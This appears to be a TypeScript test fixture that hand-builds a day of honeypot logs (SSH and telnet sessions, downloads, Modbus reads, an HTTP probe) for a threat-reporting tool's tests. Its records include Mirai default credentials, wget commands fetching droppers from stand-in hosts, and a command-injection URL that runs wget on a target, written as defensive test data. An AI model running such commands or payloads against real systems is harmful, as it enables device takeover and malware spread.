/**
 * A hand-written honeypot day (2026-11-01, UTC, unless another is given) in the harmonised event, shaped like what Cowrie,
 * Dionaea, Conpot and our own sensor log: Mirai-like SSH and telnet sessions with credentials,
 * commands, a dropper download, a pushed file, a proxy request, a Dionaea offer without a
 * session, Conpot Modbus requests and an exploit HTTP request; plus one login the next day.
 * The report and sharing tests assert their figures against it (counted by hand in the tests).
 */
import type { HoneypotEventRow } from '../../schema/honeypot-event.js';

export const H1 = 'a1'.repeat(32); // the dropper fetched from evil.example
export const H2 = 'b2'.repeat(32); // a file pushed by echo -e
export const H3 = 'c3'.repeat(32); // the script fetched from an IP literal
export const H4 = 'd4'.repeat(32); // a tty log: the honeypot's own recording, never an indicator

/** Honeypot addresses (our sensors) the clients reached. */
export const SENSOR_ADDRESSES = ['203.0.113.10', '203.0.113.11', '203.0.113.12'] as const;

/** `day` (YYYY-MM-DD, default 2026-11-01) and the day after; a test whose figures depend on today (validity) passes a recent day. */
export function cowrieLikeDay(day = '2026-11-01'): HoneypotEventRow[] {
  const next = new Date(Date.parse(`${day}T00:00:00Z`) + 86_400_000).toISOString().slice(0, 10);
  const at = (hms: string, d = day): string => `${d}T${hms}.000000Z`;
  const a1 = { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'a1', proto: 'ssh', src: '192.0.2.10', src_port: 40001, dst: '203.0.113.10', dst_port: 22, src_asn: 64500, src_country: 'JP' } as const;
  const b1 = { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'b1', proto: 'ssh', src: '198.51.100.7', src_port: 50001, dst: '203.0.113.10', dst_port: 22, src_asn: 64501, src_country: 'CN' } as const;
  const a2 = { honeypot: 'cowrie', sensor: 'hp-osaka', session: 'a2', proto: 'telnet', src: '192.0.2.10', src_port: 40002, dst: '203.0.113.11', dst_port: 23, src_asn: 64500, src_country: 'JP' } as const;
  return [
    { ...a1, ts: at('01:00:00'), kind: 'session.connect' },
    { ...a1, ts: at('01:00:01'), kind: 'client.version', client: 'SSH-2.0-libssh_0.6.3' },
    { ...a1, ts: at('01:00:02'), kind: 'login', username: 'root', password: 'admin', success: 0 },
    { ...a1, ts: at('01:00:03'), kind: 'login', username: 'root', password: 'xc3511', success: 1 },
    { ...a1, ts: at('01:00:04'), kind: 'command', input: 'enable', success: 1 },
    { ...a1, ts: at('01:00:05'), kind: 'command', input: 'cat /proc/mounts', success: 1 },
    { ...a1, ts: at('01:00:06'), kind: 'command', input: 'wget http://evil.example/bins/mirai.x86', success: 1 },
    { ...a1, ts: at('01:00:07'), kind: 'download', url: 'http://evil.example/bins/mirai.x86', url_host: 'evil.example', sha256: H1, size: 1000 },
    { ...a1, ts: at('01:00:08'), kind: 'tty', sha256: H4, size: 500, duration: 8 },
    { ...a1, ts: at('01:00:08'), kind: 'session.close', duration: 8 },

    { ...b1, ts: at('01:10:00'), kind: 'session.connect' },
    { ...b1, ts: at('01:10:01'), kind: 'client.version', client: 'SSH-2.0-Go' },
    { ...b1, ts: at('01:10:02'), kind: 'login', username: 'root', password: 'xc3511', success: 0 },
    { ...b1, ts: at('01:10:03'), kind: 'login', username: 'admin', password: 'admin', success: 1 },
    { ...b1, ts: at('01:10:04'), kind: 'command', input: 'wget http://198.18.0.5/x.sh', success: 1 },
    { ...b1, ts: at('01:10:05'), kind: 'download', url: 'http://198.18.0.5/x.sh', url_host: '198.18.0.5', sha256: H3, size: 300 },
    { ...b1, ts: at('01:10:06'), kind: 'proxy', target: 'mail.example.org:25' },
    { ...b1, ts: at('01:10:07'), kind: 'session.close', duration: 7 },

    { ...a2, ts: at('02:00:00'), kind: 'session.connect' },
    { ...a2, ts: at('02:00:01'), kind: 'login', username: 'root', password: 'xc3511', success: 1 },
    { ...a2, ts: at('02:00:02'), kind: 'command', input: 'cat /proc/mounts', success: 1 },
    { ...a2, ts: at('02:00:03'), kind: 'upload', sha256: H2, size: 200 },
    { ...a2, ts: at('02:00:04'), kind: 'session.close', duration: 4 },

    { honeypot: 'dionaea', sensor: 'dio-1', proto: 'smb', src: '198.51.100.8', dst: '203.0.113.12', dst_port: 445, src_asn: 64501, ts: at('02:30:00'), kind: 'offer', url: 'http://evil.example/bins/mirai.x86', url_host: 'evil.example' },
    // Nobody's constituency by address; organisation A holds its origin AS.
    { honeypot: 'conpot', sensor: 'plc-1', proto: 'modbus', src: '203.0.113.99', dst: '203.0.113.12', dst_port: 502, src_asn: 64500, ts: at('03:00:00'), kind: 'ics', input: 'read_holding_registers' },
    { honeypot: 'conpot', sensor: 'plc-1', proto: 'modbus', src: '203.0.113.99', dst: '203.0.113.12', dst_port: 502, src_asn: 64500, ts: at('03:01:00'), kind: 'ics', input: 'read_coils' },
    {
      honeypot: 'sakimori', sensor: 'iot-1', session: 'h1', proto: 'http', src: '192.0.2.11', dst: '203.0.113.12', dst_port: 80, src_asn: 64500, ts: at('03:05:00'), kind: 'http.request',
      input: 'GET /shell?cd+/tmp;wget+http://dl.example.net/a.sh', client: 'Hello, World', url: 'http://dl.example.net/a.sh', url_host: 'dl.example.net',
    },
    // The next day: outside a report of 2026-11-01, and what makes it the default window's day.
    { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'a3', proto: 'ssh', src: '192.0.2.10', dst: '203.0.113.10', dst_port: 22, src_asn: 64500, ts: at('05:00:00', next), kind: 'login', username: 'guest', password: 'guest', success: 0 },
  ];
}
